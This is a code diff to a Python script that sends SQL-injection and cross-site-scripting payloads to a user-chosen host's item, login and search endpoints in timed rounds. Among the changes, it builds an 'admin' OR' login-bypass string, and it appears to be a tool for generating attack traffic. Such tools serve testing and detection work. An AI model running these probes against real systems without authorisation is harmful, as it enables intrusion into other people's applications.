@@ -43,33 +43,42 @@ def main() -> None:
     parser.add_argument("kind", choices=["sql", "xss"])
     parser.add_argument("host")
     parser.add_argument("--rounds", type=int, default=3)
+    parser.add_argument("--port", type=int, default=80)
+    parser.add_argument("--seed", type=int, default=7)
+    parser.add_argument("--pause-s", type=float, default=0.1, help="longest between requests")
+    parser.add_argument("--keep", action="store_true", help="send all requests over one connection")
     given = parser.parse_args()
-    chance = random.Random(7)
+    chance = random.Random(given.seed)
+    connection = http.client.HTTPConnection(given.host, given.port, timeout=5)
     for _ in range(given.rounds):
         for payload in SQL if given.kind == "sql" else XSS:
-            (send_sql if given.kind == "sql" else send_xss)(given.host, payload)
-            time.sleep(chance.uniform(0.01, 0.1))
+            (send_sql if given.kind == "sql" else send_xss)(connection, payload, given.keep)
+            time.sleep(chance.uniform(given.pause_s / 10, given.pause_s))
+    connection.close()
 
 
-def send_sql(host: str, payload: str) -> None:
+def send_sql(connection: http.client.HTTPConnection, payload: str, is_kept: bool) -> None:
     """Try a payload in the item's number and in the login form."""
-    _send(host, "GET", f"/app/item?id={quote(payload)}")
-    _send(host, "POST", "/app/login", urlencode({"user": f"admin' OR {payload}", "password": "x"}))
+    _send(connection, is_kept, "GET", f"/app/item?id={quote(payload)}")
+    form = urlencode({"user": f"admin' OR {payload}", "password": "x"})
+    _send(connection, is_kept, "POST", "/app/login", form)
 
 
-def send_xss(host: str, payload: str) -> None:
+def send_xss(connection: http.client.HTTPConnection, payload: str, is_kept: bool) -> None:
     """Try a payload in the search field."""
-    _send(host, "GET", f"/app/search?q={quote(payload)}")
+    _send(connection, is_kept, "GET", f"/app/search?q={quote(payload)}")
 
 
-def _send(host: str, method: str, target: str, body: str | None = None) -> None:
+def _send(
+    connection: http.client.HTTPConnection, is_kept: bool, method: str, target: str, body: str | None = None
+) -> None:
     headers = {"User-Agent": _AGENT}
     if body is not None:
         headers["Content-Type"] = "application/x-www-form-urlencoded"
-    connection = http.client.HTTPConnection(host, timeout=5)
     connection.request(method, target, body=body, headers=headers)
     connection.getresponse().read()
-    connection.close()
+    if not is_kept:
+        connection.close()
 
 
 if __name__ == "__main__":
